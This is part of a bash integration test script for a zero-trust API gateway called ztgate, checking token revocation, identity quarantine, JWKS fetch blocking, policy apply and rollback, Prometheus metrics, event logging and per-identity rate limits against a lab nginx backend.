"$LAB" ctl revoke jti "$jti" >/dev/null || fail "ztgatectl revoke jti $jti: exit $?"
get "$SERVER_URL$path" "${auth[@]}"
expect_denial "the token after ztgatectl revoke jti $jti" 401 revoked jti
"$LAB" ctl --json revocations | grep -q "$jti" || fail "ztgatectl revocations does not list jti $jti"
"$LAB" ctl unrevoke jti "$jti" >/dev/null || fail "ztgatectl unrevoke jti $jti: exit $?"
get "$SERVER_URL$path" "${auth[@]}"
[[ $CODE == 200 ]] || fail "the token after ztgatectl unrevoke jti $jti: HTTP $CODE: $BODY"
pass "ztgatectl revoke jti $jti: the next request with that token is refused (revoked); unrevoke: the next passes"

# Quarantine by an operator: the API key's identity is refused from its next request on (403
# quarantined), whatever it calls, while another identity (the revocable token) goes on; del
# releases it from the next request.
"$LAB" ctl quarantine add identity api-key svc-lab-export --reason "lab check" >/dev/null ||
	fail "ztgatectl quarantine add identity api-key svc-lab-export: exit $?"
get "$SERVER_URL/api/v1/me" -H "X-API-Key: $LAB_API_KEY"
expect_denial "the API key after ztgatectl quarantine add" 403 quarantined identity
get "$SERVER_URL$path" "${auth[@]}"
[[ $CODE == 200 ]] || fail "another identity while svc-lab-export is quarantined: HTTP $CODE: $BODY"
"$LAB" ctl --json quarantine list | jq -e '.entries | length == 1 and (.[0] | .kind == "identity" and
	.issuer == "api-key" and .subject == "svc-lab-export" and .origin == "operator" and .refused == 1 and
	.reason == "lab check")' >/dev/null || fail "ztgatectl quarantine list: $("$LAB" ctl --json quarantine list)"
"$LAB" ctl quarantine del identity api-key svc-lab-export >/dev/null ||
	fail "ztgatectl quarantine del identity api-key svc-lab-export: exit $?"
get "$SERVER_URL/api/v1/me" -H "X-API-Key: $LAB_API_KEY"
[[ $CODE == 200 ]] || fail "the API key after ztgatectl quarantine del: HTTP $CODE: $BODY"
pass "ztgatectl quarantine add identity api-key svc-lab-export: its next request 403 quarantined, another identity 200; del: the next 200"

# key_fetch.blocked is checked on every address a JWKS fetch would connect to: the lab policy with
# the management link blocked cannot get its keys, so the apply is refused and lab stays. The keys
# ztgate already holds for this URL were fetched under other rules (no block): they never stand in.
blocked_conf=$RUN/policy/lab-blocked.conf
blocked_url=$JWKS_URL
sed -e 's|"::1/128" \]|"::1/128", "'"$MGMT_NET4"'" ]|' "$RUN/policy/lab.conf" >"$blocked_conf"
if ! grep -q "\"$MGMT_NET4\" \]" "$blocked_conf"; then
	fail "could not block $MGMT_NET4 in $blocked_conf"
fi
generation=$("$LAB" ctl --json status | jq .policy.generation)
fetches=$(wc -l <"$jwks_log")
rc=0
out=$("$LAB" ctl apply "$blocked_conf" 2>&1) || rc=$?
((rc == 1)) || fail "ztgatectl apply of a policy blocking $MGMT_NET4: exit $rc, expected 1: $out"
grep -qF "issuer lab-idp has no keys: $blocked_url resolves to $MGMT_SERVER_IP4, inside blocked range $MGMT_NET4" <<<"$out" ||
	fail "the refusal does not name the blocked range $MGMT_NET4: $out"
"$LAB" ctl --json status | jq -e --argjson g "$generation" '.policy.name == "lab" and .policy.generation == $g' >/dev/null ||
	fail "a refused apply changed the policy in force"
(($(wc -l <"$jwks_log") == fetches)) || fail "nginx's JWKS server was asked although $MGMT_NET4 is blocked"
get "$SERVER_URL$path" -H "Authorization: Bearer $(token valid-eddsa)"
[[ $CODE == 200 ]] || fail "a valid token after the refused apply: HTTP $CODE: $BODY"
pass "a policy whose key_fetch.blocked holds $MGMT_NET4 is refused (exit 1, names the range), nginx never asked; lab stays"

"$LAB" ctl apply "$SRC/rules/lab-strict.conf" >/dev/null || fail "ztgatectl apply rules/lab-strict.conf: exit $?"
get "$SERVER_URL/api/v1/users/alice"
[[ $CODE == 403 ]] || fail "GET /api/v1/users/alice after applying lab-strict: HTTP $CODE, expected 403"
get "$SERVER_URL/api/v1/orders/42"
[[ $CODE == 200 ]] || fail "GET /api/v1/orders/42 after applying lab-strict: HTTP $CODE"
pass "ztgatectl apply of a stricter policy: get-user now 403, orders still 200, no restart"

rc=0
"$LAB" ctl apply "$SRC/tests/unit/policy/bad_port.conf" >/dev/null 2>&1 || rc=$?
((rc == 1)) || fail "ztgatectl apply of a policy with errors: exit $rc, expected 1"
"$LAB" ctl --json status | jq -e '.policy.name == "lab-strict"' >/dev/null ||
	fail "a refused apply changed the policy in force"
"$LAB" ctl rollback >/dev/null || fail "ztgatectl rollback: exit $?"
get "$SERVER_URL/api/v1/users/alice"
[[ $CODE == 200 ]] || fail "GET /api/v1/users/alice after rollback: HTTP $CODE"
pass "a policy with errors is refused (exit 1) and the running one stays; rollback restores get-user"

# The stricter policy as a bundle: applied like a file, identified by its content hash.
bundle=$RUN/lab-strict.bundle
hash=$("$LAB" ctl --json compile "$SRC/rules/lab-strict.conf" -o "$bundle" | jq -r .sha256) ||
	fail "ztgatectl compile rules/lab-strict.conf: exit $?"
"$LAB" ctl apply "$bundle" >/dev/null || fail "ztgatectl apply $bundle: exit $?"
"$LAB" ctl --json status | jq -e --arg h "$hash" '.policy.name == "lab-strict" and .policy.sha256 == $h and
	.policy.route_matchers_as_shipped == 1' >/dev/null ||
	fail "after applying the bundle, status does not show lab-strict with sha256 $hash and its compiled routes"
pass "ztgatectl compile writes a bundle with the compiled routes; apply takes them as shipped; status shows its sha256"

"$LAB" stop-ztgate >/dev/null || fail "ztgate did not stop cleanly after the policy checks"
n=$(log_count ".ua == \"$UA/policy\" and .status == 403")
((n == 0)) || fail "access log: nginx answered $n request(s) with 403 itself: ztgate let them through"
n=$(grep -c '"audit":{' "$RUN/ztgate.log" || true)
((n >= 5)) || fail "expected an audit line per ztgatectl command in the event log, found $n"
pass "denied requests never reached nginx; every ztgatectl command was audited ($n lines)"

# The last good policy survives a restart: applied lab-strict, restarted without --policy.
"$LAB" start-ztgate --driver "$DRIVER" >/dev/null || fail "start-ztgate (before the restart)"
"$LAB" ctl apply "$SRC/rules/lab-strict.conf" >/dev/null || fail "ztgatectl apply lab-strict (before the restart)"
"$LAB" stop-ztgate >/dev/null || fail "ztgate did not stop cleanly before the restart"
ZTG_LAB_POLICY=none "$LAB" start-ztgate --driver "$DRIVER" >/dev/null || fail "start-ztgate without --policy"
"$LAB" ctl --json status | jq -e '.policy.name == "lab-strict"' >/dev/null ||
	fail "restarted without --policy: not enforcing the last good policy lab-strict"
get "$SERVER_URL/api/v1/users/alice"
[[ $CODE == 403 ]] || fail "after the restart, GET /api/v1/users/alice: HTTP $CODE, expected 403 (lab-strict)"
pass "restarted without --policy, ztgate enforces the last good policy it kept (lab-strict)"

"$LAB" stop-ztgate >/dev/null || fail "ztgate did not stop cleanly after the restart"

# Visibility through the operators' own tools: a real Prometheus server scrapes /metrics, the event file
# holds one line per denied request, dpdk-telemetry.py answers /ztgate/stats.
need_tools prometheus promtool dpdk-telemetry.py
METRICS_ADDR=127.0.0.1:9469
PROM_ADDR=127.0.0.1:9490
EVENT_FILE=$RUN/events.jsonl
rm -f -- "$EVENT_FILE"
"$LAB" start-ztgate --driver "$DRIVER" -- --metrics "$METRICS_ADDR" --event-log "$EVENT_FILE" >/dev/null ||
	fail "start-ztgate with --metrics and --event-log"
DENIED=7
for i in $(seq 1 "$DENIED"); do
	get "$SERVER_URL/api/v1/internal/metrics?try=$i"
	[[ $CODE == 403 ]] || fail "GET /api/v1/internal/metrics (visibility, $i): HTTP $CODE, expected 403"
done
for i in 1 2 3; do
	get "$SERVER_URL/api/v1/users/alice"
	[[ $CODE == 200 ]] || fail "GET /api/v1/users/alice (visibility, $i): HTTP $CODE, expected 200"
done
prom_dir=$RUN/prometheus
rm -rf -- "$prom_dir"
mkdir -p "$prom_dir/data"
printf '%s\n' 'global:' '  scrape_interval: 1s' 'scrape_configs:' '  - job_name: ztgate' '    static_configs:' \
	"      - targets: ['$METRICS_ADDR']" >"$prom_dir/prometheus.yml"
promtool check config "$prom_dir/prometheus.yml" >/dev/null || fail "promtool check config: exit $?"
ip netns exec "$NS_DUT" prometheus --config.file="$prom_dir/prometheus.yml" --storage.tsdb.path="$prom_dir/data" \
	--web.listen-address="$PROM_ADDR" >"$prom_dir/prometheus.log" 2>&1 &
prom_pid=$!
# promql QUERY: the value of a one-sample instant query, empty while there is none (or no server yet).
promql() {
	local answer
	answer=$(ip netns exec "$NS_DUT" curl -sS --max-time 5 "http://$PROM_ADDR/api/v1/query" \
		--data-urlencode "query=$1" 2>/dev/null) || return 0
	jq -r 'select(.status == "success") | .data.result[0].value[1] // empty' <<<"$answer" 2>/dev/null || true
}
denied=""
for _ in $(seq 1 60); do
	denied=$(promql 'sum(ztgate_requests_total{service="lab-api",verdict="deny",reason="no_route"})')
	[[ $denied == "$DENIED" ]] && break
	sleep 0.5
done
up=$(promql 'up{job="ztgate"}')
allowed=$(promql 'sum(ztgate_requests_total{verdict="allow",route="get-user"})')
latency=$(promql 'sum(ztgate_packet_latency_seconds_count)')
shadow=$(promql 'ztgate_shadow_endpoints{service="lab-api"}'),$(promql 'ztgate_shadow_requests_total{service="lab-api"}')
kill "$prom_pid" 2>/dev/null || true
wait "$prom_pid" 2>/dev/null || true
[[ $denied == "$DENIED" ]] ||
	fail "Prometheus: sum(ztgate_requests_total{verdict=\"deny\",reason=\"no_route\"}) is '$denied', expected $DENIED (up '$up'; $(tail -3 "$prom_dir/prometheus.log"))"
[[ $up == 1 && $allowed == 3 ]] || fail "Prometheus: up is '$up', allowed get-user requests '$allowed' (expected 1 and 3)"
[[ -n $latency ]] && ((latency > 0)) || fail "Prometheus: no packet latency observations ('$latency')"
[[ $shadow == "1,$DENIED" ]] || fail "Prometheus: shadow endpoints,requests of lab-api are '$shadow', expected 1,$DENIED"
pass "a real Prometheus server scraped ztgate: $DENIED denied (no_route) to 1 shadow endpoint, 3 allowed get-user, $latency packets timed"

stats=$(dpdk-telemetry.py -f ztg-lab <<<"/ztgate/stats" | grep '^{') || fail "dpdk-telemetry.py /ztgate/stats: exit $?"
jq -e --argjson n "$DENIED" '."/ztgate/stats".policy_denied == $n and ."/ztgate/stats".policy_allowed == 3' \
	<<<"$stats" >/dev/null || fail "dpdk-telemetry.py /ztgate/stats: expected $DENIED denied and 3 allowed: $stats"
pass "dpdk-telemetry.py answers /ztgate/stats with the same counts"

"$LAB" stop-ztgate >/dev/null || fail "ztgate did not stop cleanly after the visibility checks"
n=$(jq -s '[.[] | select(.action == "deny")] | length' "$EVENT_FILE") || fail "$EVENT_FILE is not JSON lines"
m=$(jq -s '[.[] | select(.action == "deny" and .reason == "no_route" and .path == "/api/v1/internal/metrics"
	and .service == "lab-api" and .bytes.from_client > 0)] | length' "$EVENT_FILE")
[[ $n == "$DENIED" && $m == "$DENIED" ]] ||
	fail "$EVENT_FILE: $n deny lines, $m of them no_route for /api/v1/internal/metrics; expected $DENIED"
! grep -q 'try=' "$EVENT_FILE" || fail "$EVENT_FILE holds a query string"
pass "the event file holds one JSON line per denied request ($DENIED), with its reason and bytes, no query"

# Rate limits: alice (a JWT) hammers /api/v1/me with wrk past a per-identity limit and gets 429s,
# while the API key's caller, polling the same route at the same time, keeps getting 200s.
RL_RATE=20
RL_BURST=5
rl_policy=$RUN/policy/lab-ratelimit.conf
me_route='{ name = "me";           methods = [ "GET" ];         path = "/api/v1/me";           action = "allow"; }'
grep -qF "$me_route" "$RUN/policy/lab.conf" || fail "the staged lab.conf has no 'me' route to limit"
me_limited="{ name = \"me\"; methods = [ \"GET\" ]; path = \"/api/v1/me\"; action = \"allow\";
        rate_limits = ( { name = \"per-caller\"; per = \"identity\"; rate = $RL_RATE; period = \"second\"; burst = $RL_BURST; } ); }"
policy_text=$(cat "$RUN/policy/lab.conf")
printf '%s\n' "${policy_text/"$me_route"/"$me_limited"}" >"$rl_policy"
"$LAB" start-ztgate --driver "$DRIVER" >/dev/null || fail "start-ztgate (rate limits)"
"$LAB" ctl apply "$rl_policy" >/dev/null || fail "ztgatectl apply $rl_policy: exit $?"
"$LAB" ctl --json policy | jq -e '.services[].routes[] | select(.name == "me") | .rate_limits[0].name == "per-caller"' \
	>/dev/null || fail "ztgatectl policy does not show the per-caller limit on 'me'"
alice=$(token valid-es256)
polled=$RUN/ratelimit-apikey.codes
: >"$polled"
(
	for _ in $(seq 1 25); do
		client curl -sS --max-time 5 -o /dev/null -w '%{http_code}\n' -A "$UA/ratelimit" \
			-H "X-API-Key: $LAB_API_KEY" "$SERVER_URL/api/v1/me" >>"$polled" 2>&1 || echo curl-failed >>"$polled"
		sleep 0.1
	done
) &
poller=$!
wrk_out=$(mktemp)
client wrk -t1 -c4 -d3s -H "User-Agent: $UA/wrk-ratelimit" -H "Authorization: Bearer $alice" \
	"$SERVER_URL/api/v1/me" >"$wrk_out" 2>&1 || { cat "$wrk_out" >&2; fail "wrk (rate limits) failed"; }
wait "$poller"
parse_wrk "$wrk_out" || fail "could not read wrk's output (rate limits)"
rm -f -- "$wrk_out"
admitted=$((WRK_REQUESTS - WRK_NON2XX))
((WRK_NON2XX > 0)) || fail "wrk past a $RL_RATE/s limit got no 429: $WRK_REQUESTS requests, all 2xx"
((admitted <= RL_RATE * 4 + RL_BURST)) ||
	fail "wrk: $admitted of $WRK_REQUESTS admitted in 3 s under a $RL_RATE/s limit (burst $RL_BURST)"
codes=$(sort "$polled" | uniq -c | tr -s ' \n' ' ')
[[ $(grep -c '^200$' "$polled") == 25 ]] || fail "the API key's caller beside wrk: $codes, expected 25 x 200"
rl_event=$("$LAB" ctl --json events | jq -c '[.events[] | select(.reason == "rate_limited")] | last // empty')
jq -e '.action == "deny" and .detail == "per-caller" and .route == "me" and .identity.subject == "alice"' \
	<<<"$rl_event" >/dev/null || fail "no rate_limited event naming per-caller and alice: $rl_event"
# wrk stops at 3 s and may not count a response still in flight: ztgate's own count is the one nginx must match.
passed=$("$LAB" ctl --json stats | jq '[.requests[] | select(.route == "me" and .verdict == "allow") | .count] | add')
n=$(log_count ".ua == \"$UA/wrk-ratelimit\" and .status == 200")
((n == passed - 25 && admitted <= n)) ||
	fail "nginx logged $n of wrk's requests; ztgate let $passed through 'me' (25 of them the API key's), wrk saw $admitted"
pass "rate limit per identity: wrk as alice got $WRK_NON2XX x 429 and $admitted x 200 in 3 s ($RL_RATE/s, burst $RL_BURST); the API key's caller got 25 x 200 meanwhile"
"$LAB" stop-ztgate >/dev/null || fail "ztgate did not stop cleanly after the rate limit checks"

echo "PASS: $checks checks"
